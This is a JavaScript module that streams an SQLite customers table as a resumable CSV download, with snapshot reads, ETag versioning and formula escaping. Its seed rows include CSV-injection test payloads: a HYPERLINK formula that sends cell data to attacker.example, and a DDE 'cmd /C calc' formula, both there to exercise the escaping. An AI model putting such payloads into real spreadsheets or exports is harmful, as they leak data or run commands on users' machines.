// A real export: the customers table of an SQLite database (better-sqlite3) as a CSV download
// (csv-stringify), streamed from the statement's cursor as the client reads, and resumable.
//
// - One read transaction per download. The database is in WAL mode: each download reads on a
//   connection of its own, in a snapshot taken when the download starts, so the table's version,
//   the CSV's size and its rows all come from the same state of the table, and writers are never
//   held up by a slow client (better-sqlite3 refuses any write, and closing, on a connection while
//   one of its cursors is open: "This database connection is busy executing a query").
// - The ETag is the table's version: a counter kept in the `table_versions` table, bumped by
//   triggers in the same transaction as any change to `customers`, whichever connection or program
//   writes (PRAGMA data_version would not do: it does not change for the connection's own writes,
//   and its values mean nothing across connections). The random `epoch` next to it, drawn when the
//   database is made, keeps the version numbers of a database made again from matching the old.
// - Rows are pulled as the client reads: a few dozen ahead of what the socket takes, never the
//   whole table; every 250 rows the row generator lets the event loop run (a cursor never waits,
//   and the streams pass rows on in microtasks: a fast client would hold up every other request).
// - Proper CSV (csv-stringify): quoting, a BOM, CRLF line ends, and formula escaping.
// - The size is the CSV's exact byte length, computed once per version by producing the CSV once
//   and counting its bytes (never holding it), then cached by ETag.
// - The content is a factory: the plugin calls it for each response that sends a body, and for a
//   range it skips the bytes before the range and stops the producer after it. With the size and the
//   ETag, `curl -C -`, browsers and download managers resume the download, and If-Range makes that
//   safe: a write in between changes the ETag, and the client gets the whole new file instead.
// - The cursor is released when the client leaves: destroying the CSV stream ends the row generator
//   (its for...of calls the cursor's return()), and when the response closes, for whatever reason,
//   any cursor still open is returned and the download's connection closed (after the size pass
//   the download may be making, which other downloads may wait for).
import { mkdtempSync, readdirSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { Readable, finished, pipeline } from 'node:stream'
import { setImmediate } from 'node:timers/promises'
import Database from 'better-sqlite3'
import { stringify } from 'csv-stringify'
import { VirtualFile } from 'fastify-downloadview'

/** The rows the demo's database is seeded with. */
export const DEMO_CUSTOMERS = 5000

/** The CSV's columns, in order: the key of a row and the header. */
export const COLUMNS = ['id', 'name', 'email', 'city', 'signed_up', 'balance', 'note']

/**
 * csv-stringify's options: a header line, CRLF line ends (RFC 4180), a UTF-8 BOM (so that Excel
 * reads the non-ASCII names as UTF-8), fields quoted when they hold a comma, a quote or a line
 * break, and formula escaping: a text cell starting with =, +, -, @, a tab or a carriage return
 * gets a leading ' so that a spreadsheet shows it instead of evaluating it (CSV injection). Numbers
 * are not escaped: a negative balance stays a number. The balance is kept in cents and written with
 * two decimals.
 * @type {import('csv-stringify').Options}
 */
const CSV_OPTIONS = {
  header: true,
  columns: COLUMNS,
  bom: true,
  record_delimiter: 'windows',
  escape_formulas: true,
  cast: {
    number: (value, context) => context.column === 'balance' ? cents(value) : String(value)
  }
}

/**
 * Cents as a decimal amount, exactly (no floating point): -1205 -> '-12.05'.
 * @param {number} value
 * @returns {string}
 */
function cents (value) {
  const abs = Math.abs(value)
  return `${value < 0 ? '-' : ''}${Math.floor(abs / 100)}.${String(abs % 100).padStart(2, '0')}`
}

/** Rows read between two turns of the event loop. */
const YIELD_EVERY = 250

const SELECT_ROWS = 'SELECT id, name, email, city, signed_up, balance_cents AS balance, note FROM customers ORDER BY id'
const SELECT_VERSION = "SELECT epoch, version FROM table_versions WHERE name = 'customers'"

/**
 * @typedef {{ name: string, email: string, city: string, signed_up: string, balance_cents: number, note: string }} Customer
 */

/**
 * Rows whose cells need care in a CSV: a comma, quotes, line breaks, non-ASCII text, and cells a
 * spreadsheet would take for formulas.
 * @type {Customer[]}
 */
const SPECIAL = [
  { name: 'Ada Lovelace', email: 'ada@example.com', city: 'London', signed_up: '2024-01-02', balance_cents: 125000, note: '' },
  { name: 'Smith, John', email: 'john.smith@example.com', city: 'Washington, D.C.', signed_up: '2024-01-03', balance_cents: -1205, note: 'Comma in the name and the city' },
  { name: 'Dwayne "The Rock" Johnson', email: 'rock@example.com', city: 'Hayward', signed_up: '2024-01-04', balance_cents: 99, note: 'Said "ship it"' },
  { name: 'Zoë Ångström-Łukasiewicz', email: 'zoe@example.com', city: 'Kraków', signed_up: '2024-01-05', balance_cents: 0, note: 'Line one\nLine two\r\nLine three' },
  { name: '山田 太郎', email: 'yamada@example.com', city: '東京', signed_up: '2024-01-06', balance_cents: 4200, note: 'Ünïcödé ✓ 🚀' },
  { name: '=HYPERLINK("https://attacker.example/?"&A1,"Click for your invoice")', email: 'mallory@example.com', city: 'Nowhere', signed_up: '2024-01-07', balance_cents: 1, note: '@SUM(1+9)*cmd|\' /C calc\'!A0' },
  { name: 'Rémi Dupont', email: 'remi@example.com', city: 'Montréal', signed_up: '2024-01-08', balance_cents: 3050, note: '+33 1 23 45 67 89' },
  { name: 'Björk Guðmundsdóttir', email: 'bjork@example.com', city: 'Reykjavík', signed_up: '2024-01-09', balance_cents: -50, note: '-2+3' }
]

const FIRST = ['Ada', 'Grace', 'Alan', 'Zoë', 'Søren', 'José', 'Chloé', 'Łukasz', 'Anaïs', 'Björn', 'Aiko', 'Øystein', 'François', 'Małgorzata', 'Jürgen', 'Renée', 'Yusuf', 'Ingrid', 'Mateo', 'Priya']
const LAST = ['Lovelace', 'Hopper', 'Turing', 'Ångström', 'Kierkegaard', 'Muñoz', 'Dubois', "O'Brien", 'Müller', 'Smith, Jr.', 'Tanaka', 'Østergaard', 'van der Berg', 'Nakamura', 'Şahin', 'Kowalczyk']
const CITIES = ['Paris', 'São Paulo', 'Zürich', 'Kraków', 'Reykjavík', '東京', 'Montréal', 'Köln', 'Århus', 'Москва', 'Washington, D.C.', 'Lagos', 'Lyon', 'Seattle']
const NOTES = ['', '', '', 'VIP', 'Prefers "express" shipping', 'Call before delivery,\nback door', 'Paid by card; invoice #42', '=1+1']

/**
 * ASCII for an e-mail address: accents dropped, anything else out.
 * @param {string} text
 */
const ascii = (text) => text.normalize('NFKD').replace(/[^a-zA-Z]/g, '').toLowerCase() || 'customer'

/**
 * The demo's customers: the special rows first, then realistic ones from a fixed pseudo-random
 * sequence (a linear congruential generator): the same rows on every start.
 * @param {number} count
 * @returns {Generator<Customer>}
 */
export function * customerSeed (count) {
  let x = 7
  const next = (/** @type {number} */ n) => {
    x = (Math.imul(x, 1103515245) + 12345) >>> 0
    return (x >>> 8) % n
  }
  for (let i = 0; i < count; i++) {
    const special = SPECIAL[i]
    if (special !== undefined) {
      yield special
      continue
    }
    const first = FIRST[next(FIRST.length)] ?? ''
    const last = LAST[next(LAST.length)] ?? ''
    const day = new Date(Date.UTC(2024, 0, 10) + next(900) * 86_400_000).toISOString().slice(0, 10)
    yield {
      name: `${first} ${last}`,
      email: `${ascii(first)}.${ascii(last)}.${i + 1}@example.com`,
      city: CITIES[next(CITIES.length)] ?? '',
      signed_up: day,
      balance_cents: next(2_000_000) - 200_000,
      note: NOTES[next(NOTES.length)] ?? ''
    }
  }
}

const SCHEMA = `
CREATE TABLE customers (
  id INTEGER PRIMARY KEY,
  name TEXT NOT NULL,
  email TEXT NOT NULL,
  city TEXT NOT NULL,
  signed_up TEXT NOT NULL,
  balance_cents INTEGER NOT NULL,
  note TEXT NOT NULL
);
-- the version of each exported table: the export's ETag
CREATE TABLE table_versions (name TEXT PRIMARY KEY, epoch TEXT NOT NULL, version INTEGER NOT NULL);
`

const TRIGGERS = ['INSERT', 'UPDATE', 'DELETE'].map((event) => `
CREATE TRIGGER customers_${event.toLowerCase()} AFTER ${event} ON customers
BEGIN UPDATE table_versions SET version = version + 1 WHERE name = 'customers'; END;`).join('\n')

/**
 * Opens the shop's database at `file` as the connection that writes, in WAL mode; a new database
 * gets the schema and `customers` seeded rows (customerSeed), in one transaction.
 * @param {string} file
 * @param {{ customers?: number }} [options]
 * @returns {Database.Database}
 */
export function openShop (file, { customers = DEMO_CUSTOMERS } = {}) {
  const db = new Database(file)
  try {
    // readers keep their snapshot while writers go on, and the other way round
    db.pragma('journal_mode = WAL')
    const made = db.prepare("SELECT 1 FROM sqlite_schema WHERE name = 'customers'").get() !== undefined
    if (!made) {
      db.transaction(() => {
        db.exec(SCHEMA)
        const insert = db.prepare('INSERT INTO customers (name, email, city, signed_up, balance_cents, note) VALUES (@name, @email, @city, @signed_up, @balance_cents, @note)')
        for (const customer of customerSeed(customers)) insert.run(customer)
        // the triggers come after the seed: version 1 is the seeded table
        db.prepare("INSERT INTO table_versions VALUES ('customers', lower(hex(randomblob(8))), 1)").run()
        db.exec(TRIGGERS)
      })()
    }
    return db
  } catch (error) {
    db.close()
    throw error
  }
}

/**
 * What an export has done, for the demo's logs and the tests.
 * @typedef {object} ExportStats
 * @property {number} rows rows read from cursors, in all (the size passes included)
 * @property {number} cursors cursors open now
 * @property {number} snapshots read transactions (connections) open now
 * @property {number} sizePasses passes over the whole CSV made to learn a version's size
 */

/**
 * One download's read transaction, on a connection of its own: its version, and cursors over its
 * rows. close() returns the cursors still open and closes the connection (ending the transaction).
 */
class Snapshot {
  /** @type {Database.Database} */
  #db
  /** @type {Set<IterableIterator<unknown>>} */
  #cursors = new Set()
  #stats
  #closed = false

  /**
   * @param {string} file
   * @param {ExportStats} stats
   */
  constructor (file, stats) {
    this.#stats = stats
    this.#db = new Database(file, { readonly: true, fileMustExist: true })
    stats.snapshots++
    try {
      // BEGIN is deferred: the snapshot is taken by the first read, here, and kept until close()
      this.#db.exec('BEGIN')
      const version = /** @type {{ epoch: string, version: number } | undefined} */ (this.#db.prepare(SELECT_VERSION).get())
      if (version === undefined) throw new Error('no version for the customers table')
      /** The table's version in this snapshot, as an entity-tag. */
      this.etag = `"${version.epoch}-v${version.version}"`
    } catch (error) {
      this.close()
      throw error
    }
  }

  /**
   * The table's rows, read from a cursor as they are pulled. Ending the generator (return(), as a
   * destroyed stream does) returns the cursor. A cursor never waits: every 250 rows the generator
   * lets the event loop run, or a client reading fast (or a size pass) would hold up every other
   * request until the whole table was read (the streams in between pass rows on in microtasks).
   * @returns {AsyncGenerator<Record<string, unknown>>}
   */
  async * rows () {
    if (this.#closed) return
    const cursor = /** @type {IterableIterator<Record<string, unknown>>} */ (this.#db.prepare(SELECT_ROWS).iterate())
    this.#cursors.add(cursor)
    this.#stats.cursors++
    try {
      let rows = 0
      for (const row of cursor) {
        this.#stats.rows++
        yield row
        if (++rows % YIELD_EVERY === 0) await setImmediate()
      }
      // a cursor returned by close() ends early: never to be taken for the whole table
      if (this.#closed) throw new Error('the download\'s snapshot was closed before all its rows were read')
    } finally {
      this.#release(cursor)
    }
  }

  /** @param {IterableIterator<unknown>} cursor */
  #release (cursor) {
    if (!this.#cursors.delete(cursor)) return
    this.#stats.cursors--
    cursor.return?.()
  }

  close () {
    if (this.#closed) return
    this.#closed = true
    // better-sqlite3 refuses to close a connection with an open cursor
    for (const cursor of [...this.#cursors]) this.#release(cursor)
    this.#db.close()
    this.#stats.snapshots--
  }
}

/**
 * The CSV of a snapshot's rows, as a stream of bytes. Rows are pulled as the stream is read (a
 * few dozen ahead); destroying the stream destroys the rows' stream, which ends the generator.
 * @param {Snapshot} snapshot
 * @returns {import('node:stream').Readable}
 */
function csv (snapshot) {
  const out = stringify(CSV_OPTIONS)
  // an error, or the consumer destroying `out`, destroys both; the error reaches the consumer
  pipeline(Readable.from(snapshot.rows(), { highWaterMark: 64 }), out, () => {})
  return out
}

/**
 * The byte length of a stream, read to its end and not kept.
 * @param {import('node:stream').Readable} stream
 * @returns {Promise<number>}
 */
async function byteLength (stream) {
  let bytes = 0
  for await (const chunk of stream) bytes += /** @type {Buffer} */ (chunk).length
  return bytes
}

/** Sizes are remembered for this many versions (the latest ones). */
const KEPT_SIZES = 8

/**
 * The customers export of the database at `file` (written by another connection, e.g. openShop's):
 * getFile for virtualDownloadRoute, and its stats.
 * @param {string} file
 * @param {{ name?: string }} [options] the name of the download (default customers.csv)
 * @returns {{ getFile: (request: import('fastify').FastifyRequest, reply: import('fastify').FastifyReply) => Promise<VirtualFile>, stats: ExportStats }}
 */
export function customersExport (file, { name = 'customers.csv' } = {}) {
  /** @type {ExportStats} */
  const stats = { rows: 0, cursors: 0, snapshots: 0, sizePasses: 0 }
  /** @type {Map<string, Promise<number>>} ETag -> the CSV's size, in bytes */
  const sizes = new Map()

  /**
   * @param {Snapshot} snapshot
   * @returns {Promise<number>}
   */
  function sizeOf (snapshot) {
    let size = sizes.get(snapshot.etag)
    if (size === undefined) {
      // one pass, on this snapshot: the same version has the same bytes on any snapshot
      stats.sizePasses++
      const pass = byteLength(csv(snapshot))
      size = pass
      sizes.set(snapshot.etag, pass)
      // a failed pass is not remembered: the next download makes its own
      pass.catch(() => { if (sizes.get(snapshot.etag) === pass) sizes.delete(snapshot.etag) })
      for (const etag of sizes.keys()) if (sizes.size > KEPT_SIZES) sizes.delete(etag)
    }
    return size
  }

  /**
   * @param {import('fastify').FastifyRequest} request
   * @param {import('fastify').FastifyReply} reply
   */
  async function getFile (request, reply) {
    const snapshot = new Snapshot(file, stats)
    const size = sizeOf(snapshot)
    // the response is over, for whatever reason (sent, client gone, HEAD, 304, an error), and the
    // size known: the snapshot's cursors are returned and its connection closed. A size pass made
    // on this snapshot runs to its end even when this client left: other downloads may wait for it.
    // (finished() also answers for a response that closed already.)
    const close = () => snapshot.close()
    finished(reply.raw, () => { size.then(close, close) })
    // produced afresh for each response that sends a body, from this download's snapshot
    return new VirtualFile(() => csv(snapshot), { name, size: await size, etag: snapshot.etag, charset: 'utf-8' })
  }

  return { getFile, stats }
}

/**
 * Why better-sqlite3 cannot load on this Node, when its binary was built for another Node line
 * (NODE_MODULE_VERSION differs: node_modules installed by another Node); undefined when it loads.
 * Any other failure is thrown.
 * @returns {string | undefined}
 */
export function sqliteUnavailable () {
  try {
    new Database(':memory:').close()
    return undefined
  } catch (error) {
    const { code, message } = /** @type {NodeJS.ErrnoException} */ (error)
    if (code === 'ERR_DLOPEN_FAILED' && /NODE_MODULE_VERSION/.test(message)) return message.replace(/\s+/g, ' ')
    throw error
  }
}

/** The demo's database directories: fdv-shop-<pid of the demo>-<random>. */
const SHOP_DIR = /^fdv-shop-(\d+)-/

/**
 * Removes the database directories of demos that are gone without closing (killed): their process
 * no longer runs.
 */
function removeStaleShops () {
  for (const name of readdirSync(tmpdir())) {
    const pid = SHOP_DIR.exec(name)?.[1]
    if (pid !== undefined && !running(Number(pid))) rmSync(join(tmpdir(), name), { recursive: true, force: true })
  }
}

/** @param {number} pid */
function running (pid) {
  try {
    process.kill(pid, 0)
    return true
  } catch (error) {
    return /** @type {NodeJS.ErrnoException} */ (error).code === 'EPERM'
  }
}

/**
 * The demo's shop: a new database in a temporary directory, seeded, and its export. close() closes
 * the database and removes the directory (and a new shop removes those of demos that were killed).
 * @param {{ customers?: number }} [options]
 */
export function demoShop (options = {}) {
  removeStaleShops()
  const dir = mkdtempSync(join(tmpdir(), `fdv-shop-${process.pid}-`))
  const file = join(dir, 'shop.db')
  try {
    const db = openShop(file, options)
    return {
      file,
      db,
      ...customersExport(file),
      close () {
        db.close()
        rmSync(dir, { recursive: true, force: true })
      }
    }
  } catch (error) {
    rmSync(dir, { recursive: true, force: true })
    throw error
  }
}
